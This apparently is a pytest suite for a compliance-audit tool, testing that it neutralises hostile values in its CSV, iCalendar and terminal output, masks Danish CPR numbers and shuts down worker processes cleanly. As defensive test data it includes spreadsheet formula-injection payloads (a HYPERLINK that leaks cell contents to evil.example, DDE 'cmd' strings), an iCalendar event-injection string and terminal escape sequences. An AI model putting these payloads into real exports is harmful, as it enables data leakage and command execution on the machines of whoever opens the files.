"""I/O against hostile values (issue 17, the output side): formula injection, workers at
shutdown, report targets, CPR masking, ICS injection, terminal escapes, pack resolution.

Fuzz budgets come from the Hypothesis profile (tests/fuzzing.py), like tests/test_reliability.py."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from compliance import RuleError, load_rules
from compliance.demo import generate
from compliance.outputs.ics import escape_text, fold_line
from compliance.outputs.rows import FORMULA_TRIGGERS, spreadsheet_safe
from compliance.privacy import mask_cpr, mask_obj, printable
from compliance.rules.load import packs_root
from processes import children, running, running_in_session

ROOT = Path(__file__).resolve().parent.parent
EXE = str(Path(sys.executable).parent / "compliance")
AS_OF = ["--as-of", "2025-06-30"]


def run(
    *args: str, cwd: Path | None = None, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [EXE, *args], capture_output=True, text=True, cwd=cwd, timeout=timeout, check=False
    )


def corpus(path: Path, n: int = 40, ids: list[str] | None = None, seed: int = 3) -> Path:
    """Demo cases (they have findings), the first ones given hostile case ids."""
    with open(path, "w", encoding="utf-8") as fh:
        for i, case in enumerate(generate(n, seed=seed)):
            if ids and i < len(ids):
                case["case_id"] = ids[i]
            fh.write(json.dumps(case) + "\n")
    return path


# 1. formula injection ------------------------------------------------------------------------
@pytest.mark.fuzz
@given(st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=20))
def test_spreadsheet_safe_never_leaves_a_formula_trigger_first(trigger: str, rest: str) -> None:
    cell = spreadsheet_safe(trigger + rest)
    assert not cell.startswith(FORMULA_TRIGGERS) and cell == "'" + trigger + rest


HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_audit_csv_has_no_cell_that_starts_a_formula(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl", ids=HOSTILE_IDS)
    out = tmp_path / "r.csv"
    res = run("audit", str(data), *AS_OF, "--format", "csv", "-o", str(out))
    assert res.returncode == 0, res.stderr
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    ids = {row[0] for row in rows[1:]}
    assert {"'" + i for i in HOSTILE_IDS} <= ids  # kept, readable, inert


# 2. workers: validation before the pool, shutdown and interruption ---------------------------
def test_unknown_time_zone_with_workers_exits_2_at_once(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl")
    res = run("audit", str(data), *AS_OF, "--tz", "Nowhere/Atlantis", "--workers", "2", timeout=60)
    assert res.returncode == 2 and "Traceback" not in res.stderr
    assert "Nowhere/Atlantis" in res.stderr and "internal error" not in res.stderr


def test_unknown_calendar_with_workers_exits_2_at_once(tmp_path: Path) -> None:
    pack = tmp_path / "pack"
    shutil.copytree(packs_root() / "dk", pack)
    rule = pack / "access-decide.yaml"
    rule.write_text(rule.read_text(encoding="utf-8").replace("calendar: dk", "calendar: atlantis"))
    data = corpus(tmp_path / "c.jsonl")
    res = run("audit", str(data), *AS_OF, "--rules", str(pack), "--workers", "2", timeout=60)
    assert res.returncode == 2 and "Traceback" not in res.stderr, res.stderr


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_workers_stop_cleanly_on_signals_repeatedly(tmp_path: Path, sig: int) -> None:
    data = corpus(tmp_path / "c.jsonl", n=20000)
    for attempt in range(3):
        out = tmp_path / f"r{attempt}.json"
        proc = subprocess.Popen(
            [EXE, "audit", str(data), *AS_OF, "--workers", "2", "--format", "json", "-o", str(out)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        deadline = time.monotonic() + 30
        while len(children(proc.pid)) < 2 and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.3 * attempt)
        workers = children(proc.pid)
        assert proc.poll() is None, "the audit ended before the signal could be sent"
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=30)  # a deadlock fails here
        assert proc.returncode in (130, 143, -sig) and "Traceback" not in err, err
        assert not out.exists() and not list(tmp_path.glob(f".r{attempt}.json.*"))
        time.sleep(0.2)
        assert not running(workers)


class _SlowToSend:
    """A task argument whose pickling (done by the pool's task handler thread, just before it
    writes the task into the workers' pipe) takes a while and yields 1 MB: more than the pipe
    holds."""

    def __reduce__(self) -> tuple[Any, tuple[bytes]]:
        time.sleep(0.5)
        return bytes, (b"x" * 1_000_000,)


def test_terminating_workers_never_waits_for_a_task_being_written() -> None:
    """CPython's Pool.terminate drains the task pipe only while it sees data; a task handler
    that is between its check of the pool's state and the write of a large task then blocks
    forever once the workers are killed, and terminate with it (an interrupted audit that
    never ended, about once in 60). ``worker_pool``'s pool drains until the handler ends."""
    from compliance.audit import worker_pool

    leave = threading.Event()

    def interrupted() -> None:
        with worker_pool(1) as pool:
            pool.apply_async(time.sleep, (3,))  # the worker is busy: the pipe is not read
            pool.apply_async(len, (_SlowToSend(),))  # being pickled when terminate drains
            time.sleep(0.2)
        leave.set()  # left by terminate (the context manager's exit), which returned

    thread = threading.Thread(target=interrupted, daemon=True)
    thread.start()
    assert leave.wait(30), "terminate waited for a task handler stuck writing a task"


SIGNAL_WHILE_THE_POOL_IS_BUILT = """
import os, signal, threading, time

def terminate(signum, frame):
    raise SystemExit(128 + signum)  # as the command line's handler

signal.signal(signal.SIGTERM, terminate)
real_start = threading.Thread.start

def start(thread):  # SIGTERM once the pool's worker handler runs, before the pool is built
    real_start(thread)
    if getattr(thread, "_target", None).__name__ == "_handle_tasks":
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(0.5)  # the handler runs here unless the signal is held

threading.Thread.start = start
from compliance.audit import worker_pool

with worker_pool(2) as pool:
    pool.apply(abs, (-1,))
"""


def test_a_signal_while_the_pool_is_built_leaves_no_worker(tmp_path: Path) -> None:
    """SIGTERM (or Ctrl-C) raised inside Pool.__init__, after its worker handler thread
    started: the exit killed the workers, the handler replaced them, and the new ones were
    left blocked forever once the audit had gone. worker_pool holds the signals until the
    pool exists; the audit then ends with 143 and takes its workers with it."""
    with open(tmp_path / "stderr", "w") as err:  # not a pipe: an orphan would hold it open
        proc = subprocess.Popen(
            [sys.executable, "-c", SIGNAL_WHILE_THE_POOL_IS_BUILT],
            stdout=subprocess.DEVNULL,
            stderr=err,
            start_new_session=True,  # every process it starts is in its session
        )
        proc.wait(timeout=60)
    assert proc.returncode == 143, (tmp_path / "stderr").read_text()
    deadline = time.monotonic() + 10
    while (left := running_in_session(proc.pid)) and time.monotonic() < deadline:
        time.sleep(0.1)
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert not left, "workers outlived the interrupted audit"


def test_workers_finish_repeatedly(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl", n=300)
    outputs = set()
    for _ in range(4):
        res = run("audit", str(data), *AS_OF, "--workers", "2", timeout=60)
        assert res.returncode == 0, res.stderr
        outputs.add(res.stdout)
    assert len(outputs) == 1


# 3. report targets ---------------------------------------------------------------------------
def test_dev_null_is_written_never_replaced(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl")
    before = os.stat("/dev/null")
    if not stat.S_ISCHR(before.st_mode):  # an older build already replaced it on this machine
        pytest.skip("/dev/null is not a character device here; restore it with mknod")
    for fmt in ("jsonl", "csv", "json"):
        res = run("audit", str(data), *AS_OF, "--format", fmt, "-o", "/dev/null")
        assert res.returncode == 0, res.stderr
        after = os.stat("/dev/null")
        assert stat.S_ISCHR(after.st_mode) and after.st_ino == before.st_ino


def test_fifo_target_is_written_directly(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    res = run("audit", str(data), *AS_OF, "-o", str(fifo), timeout=60)
    reader.join(30)
    assert res.returncode == 0, res.stderr
    assert stat.S_ISFIFO(os.stat(fifo).st_mode) and received and received[0].count(b"\n") > 0


def test_output_equal_to_an_input_is_refused(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl")
    before = data.read_bytes()
    for target in (str(data), str(tmp_path / "." / "c.jsonl")):
        res = run("audit", str(data), *AS_OF, "-o", target)
        assert res.returncode == 2 and "input" in res.stderr
    assert data.read_bytes() == before


def test_report_mode_kept_and_new_reports_private(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl")
    new = tmp_path / "new.json"
    assert run("audit", str(data), *AS_OF, "--format", "json", "-o", str(new)).returncode == 0
    assert stat.S_IMODE(new.stat().st_mode) == 0o600
    new.chmod(0o640)
    assert run("audit", str(data), *AS_OF, "--format", "json", "-o", str(new)).returncode == 0
    assert stat.S_IMODE(new.stat().st_mode) == 0o640


def test_output_path_problems_are_found_before_the_audit(tmp_path: Path) -> None:
    data = corpus(tmp_path / "c.jsonl", ids=["=bad\x00"])
    (tmp_path / "adir").mkdir()
    blocker = tmp_path / "file"
    blocker.write_text("x")
    for target in (tmp_path / "adir", blocker / "sub" / "r.csv"):
        res = run("audit", str(data), *AS_OF, "--format", "csv", "-o", str(target))
        assert res.returncode == 2 and "Traceback" not in res.stderr, res.stderr
        assert "rejected" not in res.stderr and "cases read" not in res.stderr


# 4. CPR masking --------------------------------------------------------------------------
SEPARATORS = [
    "",
    "-",
    " ",
    "  ",
    "\t",
    "\u2013",
    "\u2011",
    "\u2212",
    "\u00a0",
    "\u00ad",
    "\u200b",
    "\u2010",
    "\u3000",
    " - ",
    "\x01",
]
cprs = st.builds(
    lambda d, m, y, s, serial, wide: (
        _digits(f"{d:02d}{m:02d}{y:02d}", wide) + s + _digits(f"{serial:04d}", wide)
    ),
    st.integers(1, 28),
    st.integers(1, 12),
    st.integers(0, 99),
    st.sampled_from(SEPARATORS),
    st.integers(0, 9999),
    st.booleans(),
)


def _digits(text: str, wide: bool) -> str:
    return "".join(chr(0xFF10 + int(c)) for c in text) if wide else text


def _visible_digits(text: str) -> str:
    return "".join(c for c in text if c.isdigit())


@pytest.mark.fuzz
@given(cprs, st.text(alphabet="ab \x01\x1b\n", max_size=4), st.text(alphabet="xy .", max_size=4))
def test_no_cpr_shape_survives_masking(cpr: str, before: str, after: str) -> None:
    masked = mask_cpr(before + cpr + after)
    assert "******-****" in masked
    assert _visible_digits(cpr)[-4:] not in _visible_digits(masked) or _visible_digits(cpr)[
        -4:
    ] in _visible_digits(before + after)


def test_cpr_variants_never_reach_any_output(tmp_path: Path) -> None:
    variants = [
        "\x01" + "0102031234",
        "010203\u20131234",
        "010203\u00a01234",
        "010203\u200b1234",
        "010203\u00ad1234",
        "010203  1234",
        "010203\t1234",
        "\uff10\uff11\uff10\uff12\uff10\uff13-1234",
    ]
    data = corpus(tmp_path / "c.jsonl", ids=variants)
    with open(data, "a", encoding="utf-8") as fh:  # a rejected case: its id goes to stderr
        fh.write(json.dumps({"case_id": "010203\u22121234", "events": "not a list"}) + "\n")
    outputs = []
    for fmt in ("jsonl", "csv", "json", "html"):
        out = tmp_path / f"r.{fmt}"
        res = run("audit", str(data), *AS_OF, "--format", fmt, "-o", str(out))
        assert res.returncode == 0, res.stderr
        outputs += [out.read_text(encoding="utf-8"), res.stderr]
    for text in outputs:
        for v in [*variants, "010203\u22121234"]:
            assert v.encode("unicode_escape").decode() not in text.encode("unicode_escape").decode()
        assert "1234" not in mask_cpr(text).replace("******-****", "")  # no serial next to a date
        assert "0102031234" not in json.dumps(text)


def test_pseudonymize_hides_the_case_id_in_error_reasons(tmp_path: Path) -> None:
    data = tmp_path / "c.jsonl"
    secret = "child-4711-secret"
    events = [
        {"id": "e1", "type": "notification_received", "at": "2024-03-01"},
        {"id": "e1", "type": "notification_received", "at": "2024-03-02"},
    ]
    data.write_text(
        json.dumps({"case_id": secret, "events": events})
        + "\n"
        + json.dumps({"case_id": secret, "events": [{"id": secret, "type": 7}]})
        + "\n"
    )
    env = {**os.environ, "COMPLIANCE_PSEUDONYM_KEY": "k"}
    for fmt in ("jsonl", "json"):
        out = tmp_path / f"r.{fmt}"
        res = subprocess.run(
            [EXE, "audit", str(data), *AS_OF, "--pseudonymize", "--format", fmt, "-o", str(out)],
            capture_output=True,
            text=True,
            env=env,
            check=False,
        )
        assert "rejected" in res.stderr
        assert secret not in res.stderr and secret not in out.read_text(encoding="utf-8")


# 5. ICS injection --------------------------------------------------------------------------
def test_ics_case_id_cannot_add_events_or_properties(tmp_path: Path) -> None:
    evil = "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:http://evil.example\r\nATTACH:http://e.x/a;b,c\\"
    data = corpus(tmp_path / "c.jsonl", ids=[evil, "æ" * 120])
    out = tmp_path / "a.ics"
    res = run("agenda", str(data), *AS_OF, "--format", "ics", "-o", str(out))
    assert res.returncode == 0, res.stderr
    raw = out.read_bytes()
    lines = raw.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines)
    assert b"\n" not in raw.replace(b"\r\n", b"")
    unfolded = raw.replace(b"\r\n ", b"").decode("utf-8").split("\r\n")
    names = {line.split(":", 1)[0].split(";", 1)[0] for line in unfolded if line}
    assert names <= {"BEGIN", "END", "VERSION", "PRODID", "UID", "DTSTAMP", "DTSTART", "SUMMARY"}
    assert sum(line == "BEGIN:VEVENT" for line in unfolded) == sum(
        line.startswith("UID:") for line in unfolded
    )
    assert not [line for line in unfolded if line.startswith("UID:") and "evil" in line]


@pytest.mark.fuzz
@given(st.text(max_size=200))
def test_ics_text_escaping_round_trips(value: str) -> None:
    escaped = escape_text(value)
    assert not any(c in escaped for c in "\r\n\x00\x1b")
    folded = fold_line("SUMMARY:" + escaped)
    assert all(len(p.encode("utf-8")) <= 75 for p in folded.split("\r\n"))
    assert folded.replace("\r\n ", "") == "SUMMARY:" + escaped


# 6. terminal escapes ---------------------------------------------------------------------------
def test_terminal_escapes_from_data_never_reach_stderr(tmp_path: Path) -> None:
    data = tmp_path / "c.jsonl"
    evil = "a\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eb"
    data.write_text(json.dumps({"case_id": evil, "events": "not a list"}) + "\n")
    res = run("audit", str(data), *AS_OF)
    assert "rejected" in res.stderr and "\\x1b" in res.stderr
    assert not any(c in res.stderr for c in "\x1b\x07\x9b\u202e")
    res = run("audit", str(tmp_path / "missing\x1b[31m.jsonl"), *AS_OF)
    assert res.returncode == 2 and "\x1b" not in res.stderr


@pytest.mark.fuzz
@given(st.text(max_size=40))
def test_printable_has_no_control_characters(text: str) -> None:
    shown = printable(text)
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Zl", "Zp")]
    assert not [c for c in shown if "\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069"]


# 7. rule packs ----------------------------------------------------------------------------
def test_bundled_pack_name_wins_over_a_folder_in_the_working_directory(tmp_path: Path) -> None:
    local = tmp_path / "dk"
    local.mkdir()
    shutil.copy(packs_root() / "dk" / "access-decide.yaml", local / "only-rule.yaml")
    bundled = len(load_rules(packs_root() / "dk"))
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        assert len(load_rules("dk")) == bundled
        assert len(load_rules("./dk")) == 1
    finally:
        os.chdir(cwd)


@pytest.mark.parametrize("kind", ["zero", "fifo"])
def test_rule_pack_with_a_device_or_fifo_fails_fast(tmp_path: Path, kind: str) -> None:
    pack = tmp_path / "pack"
    shutil.copytree(packs_root() / "dk", pack)
    bad = pack / "zz-bad.yaml"
    if kind == "zero":
        bad.symlink_to("/dev/zero")
    else:
        os.mkfifo(bad)
    started = time.monotonic()
    with pytest.raises(RuleError, match="regular file"):
        load_rules(str(pack))
    assert time.monotonic() - started < 10
    res = run("rules", "lint", str(pack), timeout=60)
    assert res.returncode != 0 and "Traceback" not in res.stderr


# 8. user mistakes ---------------------------------------------------------------------------
def test_stdin_and_directory_inputs_are_explained(tmp_path: Path) -> None:
    res = run("audit", "-", *AS_OF)
    assert res.returncode == 2 and "standard input" in res.stderr
    res = run("audit", str(tmp_path), *AS_OF)
    assert res.returncode == 2 and "directory" in res.stderr


def test_full_disk_is_a_clear_error(tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    data = corpus(tmp_path / "c.jsonl")
    res = run("audit", str(data), *AS_OF, "--format", "json", "-o", "/dev/full")
    assert res.returncode == 2 and "Traceback" not in res.stderr
    assert "No space left" in res.stderr and "internal error" not in res.stderr


def test_mask_obj_masks_keys_and_nested_values() -> None:
    masked: Any = mask_obj({"010203\u20131234": ["x 010203\u00a01234"]})
    assert "1234" not in json.dumps(masked)


MASKED_AS_STATED = [  # docs/reliability.md, "Limits, stated": these are masked ...
    "010203-1234",
    "0102031234",
    "010203 1234",
    "\uff10\uff11\uff10\uff12\uff10\uff13\uff0d\uff11\uff12\uff13\uff14",  # full-width
    "\u0660\u0661\u0660\u0662\u0660\u0663-\u0661\u0662\u0663\u0664",  # Arabic-Indic
    "010203\u200b1234",
    "010203 \u2013 1234",
]
NOT_MASKED_AS_STATED = [  # ... and these are not
    "010203.1234",
    "010203/1234",
    "010203_1234",
    "010203----1234",
    "01-02-03-1234",
    "320203-1234",
    "10102031234",
]


@pytest.mark.parametrize("text", MASKED_AS_STATED + NOT_MASKED_AS_STATED)
def test_cpr_masking_limits_are_as_stated(text: str) -> None:
    assert (mask_cpr(f"id {text} end") == "id ******-**** end") == (text in MASKED_AS_STATED)
